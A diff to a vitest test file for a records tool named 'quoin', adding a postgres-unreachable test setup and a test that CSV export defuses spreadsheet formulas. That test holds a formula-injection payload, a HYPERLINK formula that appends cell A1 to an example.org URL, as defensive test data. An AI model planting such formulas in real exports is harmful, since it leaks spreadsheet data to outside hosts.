@@ -1,4 +1,4 @@
-import { cp, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
+import { cp, mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterAll, beforeAll, expect, test } from "vitest";
@@ -116,7 +116,12 @@ async function withStore(bytes: Uint8Array): Promise<string> {
 test("a server that cannot be reached is a fault that says so", async () => {
   process.env["QUOIN_DATABASE_URL"] = "postgresql://nobody:secret@127.0.0.1:1/none";
   try {
-    const run = await quoin("record", "list", workspace, "fund");
+    // A folder whose records are on that server.
+    const away = join(folder, "away");
+    await mkdir(join(away, ".quoin"), { recursive: true });
+    for (const file of ["datapackage.json", "quoin.yaml"]) await cp(join(workspace, file), join(away, file));
+    await writeFile(join(away, ".quoin", "engine"), "postgres\n");
+    const run = await quoin("record", "list", away, "fund");
     expect(run.exitCode).toBe(2);
     expect(run.stderr).toContain("error[register.unreachable]");
     expect(run.stderr).not.toContain("secret");
@@ -129,4 +134,15 @@ test("what was done to accounts is written by the program, and edited by nobody"
   const forged = await put("account-change", "forged", { account: "li", action: "password-set" });
   expect([forged.exitCode, forged.stderr.includes("record.commanded")]).toEqual([2, true]);
   expect((await quoin("record", "retire", workspace, "account-change", "any")).stderr).toContain("record.commanded");
+});
+
+test("what looks like a formula leaves in a table of records as text, and comes back as it was typed", async () => {
+  const name = '=HYPERLINK("http://example.org/?"&A1,"click")';
+  expect((await put("organisation", "formula", { labels: { en: name } })).exitCode).toBe(0);
+  const file = join(folder, "organisations.csv");
+  expect((await quoin("record", "export", workspace, "organisation", "--to", file)).exitCode).toBe(0);
+  expect(await readFile(file, "utf8")).toContain(`"'${name.replaceAll('"', '""')}"`);
+  const again = await quoin("record", "table", workspace, "organisation", "--data", file, "--json");
+  expect(again.exitCode).toBe(0);
+  expect(JSON.parse((await quoin("record", "get", workspace, "organisation", "formula", "--json")).stdout)).toMatchObject({ labels: { en: name }, version: 1 });
 });
